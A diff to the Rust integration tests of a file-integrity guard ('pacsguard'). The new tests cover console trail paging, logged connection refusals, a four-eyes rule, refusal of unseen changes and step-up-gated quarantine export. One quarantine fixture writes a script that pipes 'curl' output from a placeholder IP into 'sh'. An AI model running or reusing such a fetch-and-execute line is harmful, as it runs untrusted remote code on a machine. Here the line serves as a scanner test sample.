@@ -744,6 +744,19 @@ fn an_acceptance_in_the_console_needs_a_step_up_and_changes_the_signed_profile()
     assert_eq!(status, 200, "{body}");
     assert!(body.contains("1 difference(s)"), "{body}");
 
+    // The trail page, read from the log's end, and the page before a record.
+    let (status, _, trail) = server.curl("GET", "/trail", &[]);
+    assert_eq!(status, 200, "{trail}");
+    let newest: u64 = value_of(&trail, "<tr id=\"record-0\"><td>", '<')
+        .parse()
+        .expect("a seq");
+    assert!(newest > 3, "{trail}");
+    let (_, _, older) = server.curl("GET", &format!("/trail?before={newest}"), &[]);
+    let first: u64 = value_of(&older, "<tr id=\"record-0\"><td>", '<')
+        .parse()
+        .expect("a seq");
+    assert_eq!(first, newest - 1, "{older}");
+
     let check = env.run(&["check"]);
     assert_eq!(check.status.code(), Some(0), "{}", stdout(&check));
     server.stop();
@@ -766,8 +779,12 @@ fn an_acceptance_in_the_console_needs_a_step_up_and_changes_the_signed_profile()
 /// The console in a real browser (Debian's Chromium, headless, driven by playwright-core
 /// from `tests/browser/`): setup link, first administrator, TOTP enrolment, sign-out and
 /// sign-in with a recovery code, the overview, alerts and trail pages, then a difference
-/// accepted with a step-up and a reason, which really changes the signed profile. Every
-/// page is photographed into `target/tmp/browser-screenshots/` (and `failure.png`).
+/// accepted with a step-up and a reason, which really changes the signed profile; then
+/// the sessions, charts, quarantine, break-glass and older-trail pages, a forged CSRF
+/// token refused, a wrong password, a wrong code and a replayed code refused alike,
+/// throttling that refuses even the right password, and a viewer refused an approver's
+/// action through the page and the API. Every page is photographed into
+/// `target/tmp/browser-screenshots/` (and `failure.png`).
 #[test]
 fn the_console_in_a_real_browser_from_setup_to_an_acceptance() {
     let workspace = Path::new(env!("CARGO_MANIFEST_DIR")).join("../..");
@@ -946,6 +963,13 @@ fn one_peer_holding_every_connection_slot_does_not_lock_others_out() {
             "over its share, the peer's connection is closed at once"
         );
     }
+    // And the refusals are on the service's log: one line, counting the rest.
+    let log = server.stderr();
+    assert_eq!(
+        log.matches("refused a connection from 127.0.0.1").count(),
+        1,
+        "{log}"
+    );
     drop(held);
     server.stop();
 }
@@ -1031,13 +1055,24 @@ fn a_command_past_the_control_connections_limit_is_refused_with_a_reason() {
     env.profile(&[]);
     let server = Server::start(&env, &[]);
     let socket = env.home.join("control.sock");
-    let held: Vec<std::os::unix::net::UnixStream> = (0..MAX_CONTROL_CONNECTIONS)
-        .map(|_| {
-            let mut stream = std::os::unix::net::UnixStream::connect(&socket).expect("connect");
-            stream.write_all(b"{\"command\":").expect("half a request");
-            stream
-        })
-        .collect();
+    let hold = || {
+        let mut stream = std::os::unix::net::UnixStream::connect(&socket).expect("connect");
+        stream.write_all(b"{\"command\":").expect("half a request");
+        stream
+    };
+    // One below the limit: the command is served.
+    let mut held: Vec<std::os::unix::net::UnixStream> =
+        (0..MAX_CONTROL_CONNECTIONS - 1).map(|_| hold()).collect();
+    std::thread::sleep(Duration::from_millis(500));
+    let check = env.run(&["check", "--fast"]);
+    assert_eq!(check.status.code(), Some(0), "{}", stderr(&check));
+    assert!(
+        !server.stderr().contains("refused a command"),
+        "{}",
+        server.stderr()
+    );
+    // At the limit: refused, with words.
+    held.push(hold());
     std::thread::sleep(Duration::from_millis(500));
     let check = env.run(&["check", "--fast"]);
     assert_eq!(check.status.code(), Some(2), "{}", stderr(&check));
@@ -1046,6 +1081,187 @@ fn a_command_past_the_control_connections_limit_is_refused_with_a_reason() {
         "{}",
         stderr(&check)
     );
+    assert!(
+        server
+            .stderr()
+            .contains("refused a command on the control socket"),
+        "the refusal is logged: {}",
+        server.stderr()
+    );
     drop(held);
     server.stop();
+}
+
+/// Four eyes cannot be walked around from root's shell: `pacsguard accept` relayed to the
+/// running guard for a `static` root under `[console] four_eyes` is refused with where
+/// to ask instead, and nothing is signed in (the difference is still reported).
+#[test]
+fn a_relayed_cli_accept_into_a_four_eyes_root_is_refused() {
+    let env = Env::new();
+    env.profile(&["--policy", "static"]);
+    let path = env.home.join("config.toml");
+    let mut text = std::fs::read_to_string(&path).expect("config");
+    text.push_str("\n[console]\nfour_eyes = true\n");
+    std::fs::write(&path, text).expect("config");
+    let server = Server::start(&env, &[]);
+    std::fs::write(env.path("readme.txt"), b"patched text\n").expect("patch");
+    for args in [
+        vec!["accept", "--all", "--reason", "alone"],
+        vec!["accept", env.tree_str(), "--reason", "alone"],
+    ] {
+        let accept = env.run(&args);
+        assert_eq!(accept.status.code(), Some(2), "{}", stdout(&accept));
+        assert!(
+            stderr(&accept).contains("four eyes")
+                && stderr(&accept).contains("Nothing was accepted"),
+            "{}",
+            stderr(&accept)
+        );
+    }
+    let check = env.run(&["check"]);
+    assert_eq!(check.status.code(), Some(1), "{}", stdout(&check));
+    assert!(stdout(&check).contains("readme.txt"), "{}", stdout(&check));
+    server.stop();
+}
+
+/// The engine takes in only what the person was shown: a change the guard has not
+/// reported yet (its writer still has the file open, inside the quiet period) is found
+/// by the acceptance's own comparison, and then nothing is accepted. Before, the page
+/// showed no difference and the acceptance signed the unseen change in.
+#[test]
+fn a_difference_not_yet_reported_is_not_accepted_with_what_was_shown() {
+    let env = Env::new();
+    env.profile(&[]);
+    configure_watch(&env, "quiet_ms = 30000\nscrub_mb_per_s = 0\n");
+    let server = Server::start(&env, &[]);
+    let secret = first_admin(&server);
+    let mut unseen = std::fs::OpenOptions::new()
+        .write(true)
+        .truncate(true)
+        .open(env.path("readme.txt"))
+        .expect("open");
+    std::io::Write::write_all(&mut unseen, b"not reviewed\n").expect("write");
+    let (_, _, body) = server.curl("GET", "/differences", &[]);
+    let csrf = value_of(&body, "name=\"csrf\" value=\"", '"');
+    let (status, headers, _) = server.curl(
+        "POST",
+        "/step-up",
+        &[("csrf", &csrf), ("code", &next_step_code(&secret))],
+    );
+    assert_eq!(status, 303, "{headers}");
+    let (_, _, page) = server.curl("GET", "/differences", &[]);
+    assert!(!page.contains("readme.txt"), "not reported yet: {page}");
+    let csrf = value_of(&page, "name=\"csrf\" value=\"", '"');
+    let seen = value_of(&page, "name=\"seen\" value=\"", '"');
+    let (status, _, body) = server.curl(
+        "POST",
+        "/differences/accept",
+        &[
+            ("csrf", &csrf),
+            ("root", env.tree_str()),
+            ("reason", "nothing to see"),
+            ("seen", &seen),
+        ],
+    );
+    assert_eq!(status, 400, "{body}");
+    assert!(
+        body.contains("not among those shown") && body.contains("readme.txt"),
+        "{body}"
+    );
+    let check = env.run(&["check"]);
+    assert_eq!(
+        check.status.code(),
+        Some(1),
+        "nothing was accepted: {}",
+        stdout(&check)
+    );
+    drop(unseen);
+    server.stop();
+}
+
+/// The quarantine in the console: a script caught by `pacsguard scan --quarantine` (run
+/// by the guard) is listed and shown; its export needs a step-up and a reason, sends the
+/// very bytes of the original, is on the trail with the reason, and leaves the vault
+/// copy as it was (bytes, mode, times).
+#[test]
+fn a_quarantined_copy_is_listed_shown_and_exported_with_a_step_up_unchanged() {
+    use std::os::unix::fs::MetadataExt as _;
+    let env = Env::new();
+    env.profile(&[]);
+    let server = Server::start(&env, &[]);
+    let secret = first_admin(&server);
+    let incoming = env.dir.path().join("incoming");
+    std::fs::create_dir_all(&incoming).expect("mkdir");
+    let script = b"#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\n";
+    std::fs::write(incoming.join("run.sh"), script).expect("write");
+    let scan = env.run(&["scan", "--quarantine", incoming.to_str().expect("utf-8")]);
+    assert_eq!(scan.status.code(), Some(1), "{}", stderr(&scan));
+
+    let (status, _, list) = server.curl("GET", "/quarantine", &[]);
+    assert_eq!(status, 200, "{list}");
+    assert!(
+        list.contains("run.sh") && list.contains("executable-file"),
+        "{list}"
+    );
+    let sha = value_of(&list, "/quarantine/item?sha=", '"');
+    assert_eq!(sha.len(), 64, "{sha}");
+    let content = env.home.join("quarantine").join(&sha).join("content");
+    let before = std::fs::metadata(&content).expect("vault copy");
+    let (status, _, item) =
+        server.curl("GET", &format!("/quarantine/item?sha={}", &sha[..12]), &[]);
+    assert_eq!(status, 200, "{item}");
+    assert!(
+        item.contains("id=\"verified\"") && item.contains("id=\"step-up-needed\""),
+        "{item}"
+    );
+    let csrf = value_of(&item, "name=\"csrf\" value=\"", '"');
+    let export = |csrf: &str| {
+        server.curl(
+            "POST",
+            "/quarantine/export",
+            &[
+                ("csrf", csrf),
+                ("sha", &sha),
+                ("reason", "sample for the CERT, ticket 4711"),
+            ],
+        )
+    };
+    let (status, _, body) = export(&csrf);
+    assert_eq!(status, 403, "no step-up yet: {body}");
+    let (status, headers, _) = server.curl(
+        "POST",
+        "/step-up",
+        &[("csrf", &csrf), ("code", &next_step_code(&secret))],
+    );
+    assert_eq!(status, 303, "{headers}");
+    let (_, _, item) = server.curl("GET", &format!("/quarantine/item?sha={sha}"), &[]);
+    let csrf = value_of(&item, "name=\"csrf\" value=\"", '"');
+    let (status, headers, body) = export(&csrf);
+    assert_eq!(status, 200, "{headers}{body}");
+    assert!(
+        headers
+            .to_ascii_lowercase()
+            .contains("content-disposition: attachment"),
+        "{headers}"
+    );
+    assert_eq!(body.as_bytes(), script, "the original's bytes");
+    let after = std::fs::metadata(&content).expect("vault copy");
+    assert_eq!(std::fs::read(&content).expect("read"), script);
+    assert_eq!(
+        (after.mode(), after.mtime(), after.mtime_nsec(), after.ino()),
+        (
+            before.mode(),
+            before.mtime(),
+            before.mtime_nsec(),
+            before.ino()
+        ),
+        "the vault copy is unchanged"
+    );
+    server.stop();
+    let shown = env.run(&["audit", "show", "--action", "quarantine", "--json"]);
+    let text = stdout(&shown);
+    assert!(
+        text.contains("console:admin") && text.contains("ticket 4711") && text.contains(&sha),
+        "{text}"
+    );
 }
